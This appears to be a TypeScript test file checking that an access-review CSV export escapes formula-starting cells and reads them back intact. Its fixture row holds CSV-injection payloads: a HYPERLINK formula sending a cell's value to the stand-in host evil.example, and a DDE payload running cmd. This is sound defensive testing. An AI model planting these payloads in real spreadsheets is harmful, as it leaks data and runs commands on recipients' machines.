// The review folder's CSV: a cell a spreadsheet would run as a formula is written escaped and read back as it was.
import { strict as assert } from "node:assert";
import { readReviewCsv, reviewCsv } from "../../provider/review/files";
import { reviewRow } from "../../provider/rules/review";

const HYPERLINK = '=HYPERLINK("https://evil.example/?"&A2,"click")';

describe("reviewCsv and readReviewCsv", () => {
  const row = reviewRow({
    site: "acme-fr.atlassian.net",
    product: "confluence",
    role: "atlassian/user",
    email: "ana.costa@acme.example",
    accountId: "acc-ana",
    name: HYPERLINK,
    via: "group",
    group: "+cmd|' /C calc'!A0",
    lane: "pulumi",
    addedBy: "@admin",
    evidence: [],
    resourceId: "ari:fr",
  });

  it("writes a name, group or actor that starts a formula behind a quote, so a spreadsheet shows it as text", () => {
    const csv = reviewCsv([row]);
    assert.ok(csv.includes(`"'=HYPERLINK(""https://evil.example/?""&A2,""click"")"`), csv);
    assert.ok(csv.includes(`"'+cmd|' /C calc'!A0"`) || csv.includes(`'+cmd|' /C calc'!A0`), csv);
    assert.ok(csv.includes(",'@admin,"), csv);
    assert.ok(!/(^|,)[=+@]/m.test(csv), csv);
  });

  it("reads each escaped cell back as it was, so the row's identity still matches", () => {
    const [read] = readReviewCsv("rita.csv", reviewCsv([row]));
    assert.deepEqual(read.row, row);
    assert.equal(read.line, 2);
  });

  it("leaves a cell that starts with a quote and no formula character as written", () => {
    const [read] = readReviewCsv("rita.csv", reviewCsv([{ ...row, reason: "'quoted" }]));
    assert.equal(read.row.reason, "'quoted");
  });
});
